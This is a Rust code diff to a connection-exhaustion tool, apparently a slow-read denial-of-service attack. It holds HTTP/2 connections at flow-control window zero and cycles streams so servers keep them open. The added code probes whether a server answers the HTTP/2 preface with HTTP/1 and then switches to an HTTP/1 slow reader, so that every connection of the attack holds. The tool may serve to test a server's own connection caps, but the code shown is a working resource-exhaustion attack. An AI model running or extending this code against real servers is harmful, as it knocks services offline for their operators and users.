@@ -148,7 +148,9 @@ async fn connect(
 }
 
 /// An HTTP/2 connection at window 0 whose one stream is replaced every `replace_every`,
-/// opened again a second after the server closes or refuses it.
+/// opened again a second after the server closes or refuses it; against a server that speaks
+/// no cleartext HTTP/2 (its answer to the preface is HTTP/1's), an HTTP/1 slow reader instead,
+/// so that every connection of the attack holds.
 async fn window_zero(
     address: SocketAddr,
     source: IpAddr,
@@ -157,52 +159,97 @@ async fn window_zero(
     tally: &Tally,
 ) {
     while !tally.stop.load(Ordering::Relaxed) {
-        if let Some(held) = hold_window_zero(address, source, which, attack, tally).await {
-            tally.held[which].fetch_sub(1, Ordering::Relaxed);
-            if held {
+        match hold_window_zero(address, source, which, attack, tally).await {
+            Held::Closed => {
+                tally.held[which].fetch_sub(1, Ordering::Relaxed);
                 tally.closed_by_server.fetch_add(1, Ordering::Relaxed);
             }
+            Held::Stopped => {
+                tally.held[which].fetch_sub(1, Ordering::Relaxed);
+            }
+            Held::Never => {}
+            Held::NoHttp2 => return slow_reader(address, source, which, attack, tally).await,
         }
         tokio::time::sleep(Duration::from_secs(1)).await;
     }
 }
 
-/// One window-0 connection for as long as the server keeps it: `Some(true)` when it held it
-/// and the server closed it, `None` when it never got a stream answered.
+/// How a window-0 connection ended.
+enum Held {
+    /// The server closed it.
+    Closed,
+    /// The attack ended.
+    Stopped,
+    /// It never got a stream answered (refused, or no room).
+    Never,
+    /// The server answers an HTTP/2 preface with HTTP/1: it speaks no cleartext HTTP/2.
+    NoHttp2,
+}
+
+/// Whether the server at `address` answers an HTTP/2 preface with HTTP/1 other than a refusal
+/// at a cap (which says 503, and may come from a server that speaks HTTP/2).
+async fn speaks_http1_only(address: SocketAddr, source: IpAddr) -> bool {
+    let Some(mut stream) = connect(address, source, None).await else {
+        return false;
+    };
+    if stream
+        .write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
+        .await
+        .is_err()
+    {
+        return false;
+    }
+    let mut status_line = [0u8; 12];
+    let read =
+        tokio::time::timeout(Duration::from_secs(5), stream.read_exact(&mut status_line)).await;
+    matches!(read, Ok(Ok(_)))
+        && status_line.starts_with(b"HTTP/1.")
+        && !status_line.ends_with(b"503")
+}
+
+/// One window-0 connection for as long as the server keeps it.
 async fn hold_window_zero(
     address: SocketAddr,
     source: IpAddr,
     which: usize,
     attack: &BusyAttack,
     tally: &Tally,
-) -> Option<bool> {
-    let tcp = connect(address, source, None).await?;
-    let (client, connection) = tokio::time::timeout(
+) -> Held {
+    let Some(tcp) = connect(address, source, None).await else {
+        return Held::Never;
+    };
+    let handshake = tokio::time::timeout(
         Duration::from_secs(5),
         h2::client::Builder::new()
             .initial_window_size(0)
             .handshake::<_, bytes::Bytes>(tcp),
     )
-    .await
-    .ok()?
-    .ok()?;
+    .await;
+    let Ok(Ok((client, connection))) = handshake else {
+        return Held::Never;
+    };
     let mut driver = tokio::spawn(connection);
-    let mut held = open_stream(client.clone(), &attack.page).await?;
+    let Some(mut held) = open_stream(client.clone(), &attack.page).await else {
+        if speaks_http1_only(address, source).await {
+            return Held::NoHttp2;
+        }
+        return Held::Never;
+    };
     tally.held[which].fetch_add(1, Ordering::Relaxed);
     loop {
         tokio::select! {
-            _ = &mut driver => return Some(true),
+            _ = &mut driver => return Held::Closed,
             () = tokio::time::sleep(attack.replace_every) => {
                 // A new stream, then the old one dropped: h2 resets it.
                 match open_stream(client.clone(), &attack.page).await {
                     Some(next) => drop(std::mem::replace(&mut held, next)),
-                    None => return Some(true),
+                    None => return Held::Closed,
                 }
             }
         }
         if tally.stop.load(Ordering::Relaxed) {
             drop(held);
-            return Some(false);
+            return Held::Stopped;
         }
     }
 }
